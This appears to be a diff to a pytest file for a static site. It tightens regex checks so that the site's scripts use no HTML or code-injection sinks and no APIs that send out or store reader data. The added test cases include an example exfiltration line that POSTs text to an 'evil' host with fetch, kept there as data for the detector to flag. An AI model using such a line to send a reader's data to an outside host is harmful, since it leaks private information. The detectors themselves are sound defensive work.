@@ -6,6 +6,8 @@ import hashlib
 import json
 import re
 
+import pytest
+
 SUBRESOURCES = {"script": "src", "img": "src", "iframe": "src", "embed": "src", "object": "data", "source": "src", "video": "src",
                 "audio": "src", "track": "src", "input": "src", "use": "href", "image": "href"}
 KNOWN_SINKS = {"error-index.js": ["DOMParser"]}     # once, for rows.html of our own build, which no reader's text gets into
@@ -102,26 +104,31 @@ def test_structured_data_parses_and_cannot_end_its_element(site):
             assert not re.search(r"[<>&]", script.raw), address
 
 
+SINKS = re.compile(r"\b(innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval|createContextualFragment|srcdoc|DOMParser|setHTMLUnsafe)\b|new Function\(")
+SENDERS = re.compile(r"\b(sendBeacon|XMLHttpRequest|WebSocket|EventSource|RTCPeerConnection|document\.cookie|indexedDB|sessionStorage|serviceWorker)\b"
+                     r"|\blocalStorage\b(?!\.theme\b)|(?<![.\w$])(?:self\.|window\.|globalThis\.)?fetch\((?:[^(),]|\([^()]*\))*,")       # a request with options could carry something
+
+
+def found_in_scripts(site, wanted):
+    """Name of each script of ours and what is found in it: they are minified, so nothing of it stands in a comment."""
+    return [(name.rpartition("/")[2], [match[0] for match in wanted.finditer(site.read(name))]) for name in sorted(site.files) if name.endswith(".js") and "/vendor/" not in name]
+
+
 def test_scripts_never_make_markup_or_code_from_text(site, no_findings):
     """innerHTML and its kin are how pasted text would become an element; eval is how it would become code."""
-    sinks = r"\b(innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval|createContextualFragment|srcdoc|DOMParser|setHTMLUnsafe)\b|new Function\("
-    findings = []
-    for name in sorted(site.files):
-        if name.endswith(".js") and "/vendor/" not in name:
-            text = re.sub(r"/\*.*?\*/|(?m:^\s*//.*$)", "", site.read(name), flags=re.DOTALL)
-            found = [match[0] for match in re.finditer(sinks, text)]
-            findings += [f"{name}: {sink}" for sink in found if found != KNOWN_SINKS.get(name.rpartition("/")[2])]
-    no_findings(findings)
+    no_findings([f"{name}: {sinks}" for name, sinks in found_in_scripts(site, SINKS) if sinks and sinks != KNOWN_SINKS.get(name)])
 
 
 def test_scripts_send_and_keep_nothing(site, no_findings):
     """The one thing that stays on the reader's machine is the colour scheme."""
-    senders = r"\b(sendBeacon|XMLHttpRequest|WebSocket|EventSource|RTCPeerConnection|document\.cookie|indexedDB|sessionStorage|serviceWorker)\b"
-    findings = []
-    for name in sorted(site.files):
-        if name.endswith(".js") and "/vendor/" not in name:
-            text = re.sub(r"/\*.*?\*/|(?m:^\s*//.*$)", "", site.read(name), flags=re.DOTALL)
-            findings += [f"{name}: {found[0]}" for found in re.finditer(senders, text)]
-            findings += [f"{name}: {found}" for found in re.findall(r"localStorage[.\[]\w*", text) if found != "localStorage.theme"]
-            findings += [f"{name}: fetch with options" for found in re.findall(r"\bfetch\(([^()]|\([^()]*\))*\)", text) if "," in found]
-    no_findings(findings)
+    no_findings([f"{name}: {senders}" for name, senders in found_in_scripts(site, SENDERS) if senders])
+
+
+@pytest.mark.parametrize("script", ['a\n// b\nfetch("https://evil",{method:"POST",body:text})', "fetch(new URL(text).href,a)", "self.fetch(a,b)", "localStorage.log=text", "localStorage[text]", "const{log}=localStorage", "a.sendBeacon(b)"])
+def test_what_sends_or_keeps_is_seen(script):
+    assert SENDERS.search(script)
+
+
+@pytest.mark.parametrize("script", ["fetch(new URL(a,b.href))", "localStorage.theme=a", "prefetch(a,b)", "index.fetch(a,b)"])
+def test_what_only_reads_is_let_be(script):
+    assert not SENDERS.search(script)
